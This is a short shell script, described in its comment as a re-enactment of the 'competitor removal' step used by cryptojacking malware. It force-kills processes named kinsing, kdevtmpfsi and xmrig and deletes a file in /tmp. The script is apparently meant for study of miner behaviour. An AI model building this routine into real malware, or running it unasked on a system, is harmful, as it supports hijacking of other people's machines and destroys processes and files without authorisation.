#!/bin/sh
# re-enactment: removes "competitors"
pkill -f kinsing
killall -9 kdevtmpfsi
ps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs kill -9
rm -rf /tmp/kdevtmpfsi
